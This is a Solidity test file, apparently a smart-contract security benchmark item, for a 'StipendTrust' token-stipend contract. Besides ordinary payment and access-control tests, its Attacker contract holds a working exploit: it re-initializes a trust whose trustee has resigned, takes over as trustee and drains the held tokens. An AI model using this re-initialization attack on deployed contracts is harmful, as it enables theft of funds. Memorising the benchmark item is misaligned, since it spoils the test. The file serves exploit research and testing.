pragma solidity 0.5.17;

import "@openzeppelin/contracts@2.5.1/token/ERC20/ERC20.sol";
import "./StipendTrust.sol";

// assay-canary-a38f23cf-4b25-4300-8fe1-39f56df53f57

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Token is ERC20 {
    address private maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker only");
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant CAT = address(0xCA7);
    uint256 private constant START = 1700000000;

    Token public token;
    StipendTrustRegistry private registry;
    StipendTrust private trust;
    StipendTrust private open;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new Token();
        registry = new StipendTrustRegistry();
        vm.startPrank(CAT);
        trust = registry.create(token, ANA, 100e18);
        open = registry.create(token, BEN, 50e18);
        trust.resign();
        vm.stopPrank();
        token.mint(address(trust), 2400e18);
        token.mint(address(open), 80e18);
        mallory = new Attacker(trust, token);
    }

    function test_Regular() public {
        require(trust.trustee() == address(0) && open.trustee() == CAT && registry.trusts(1) == open, "created");
        vm.warp(START + 30 days);
        require(trust.payStipend() == 100e18 && token.balanceOf(ANA) == 100e18, "a month");
        vm.prank(CAT);
        open.setStudent(ANA);
        require(open.payStipend() == 50e18 && token.balanceOf(ANA) == 150e18, "another student");
        vm.warp(START + 60 days);
        require(open.payStipend() == 30e18 && trust.payStipend() == 100e18, "the rest");
        token.mint(address(open), 7e18);
        vm.prank(CAT);
        require(open.windUp(BEN) == 7e18 && token.balanceOf(BEN) == 7e18, "wound up");
        vm.prank(CAT);
        open.resign();
        StipendTrust own = new StipendTrust();
        own.initialize(token, BEN, ANA, 1);
        require(own.trustee() == BEN && own.student() == ANA && own.monthly() == 1, "set up");
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert("only the trustee may do this");
        open.setStudent(ANA);
        vm.expectRevert("only the trustee may do this");
        open.windUp(ANA);
        vm.expectRevert("only the trustee may do this");
        open.resign();
        vm.expectRevert("the trust is set up already");
        open.initialize(token, ANA, ANA, 1);
        vm.stopPrank();
    }

    function test_RefusesZero() public {
        StipendTrust own = new StipendTrust();
        vm.expectRevert("the token is zero");
        own.initialize(IERC20(address(0)), BEN, ANA, 1);
        vm.expectRevert("the trustee is zero");
        own.initialize(token, address(0), ANA, 1);
        vm.expectRevert("the student is zero");
        own.initialize(token, BEN, address(0), 1);
        vm.expectRevert("the stipend is zero");
        own.initialize(token, BEN, ANA, 0);
        vm.prank(CAT);
        vm.expectRevert("the recipient is zero");
        open.windUp(address(0));
    }

    function test_RefusesPayments() public {
        vm.warp(START + 30 days - 1);
        vm.expectRevert("the payment is not due");
        open.payStipend();
        vm.warp(START + 90 days);
        open.payStipend();
        open.payStipend();
        vm.expectRevert("the trust is empty");
        open.payStipend();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 2400e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(trust);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    StipendTrust private trust;
    IERC20 private token;

    constructor(StipendTrust trust_, IERC20 token_) public {
        trust = trust_;
        token = token_;
    }

    function run() external {
        trust.initialize(token, address(this), address(this), 1);
        trust.windUp(address(this));
    }
}
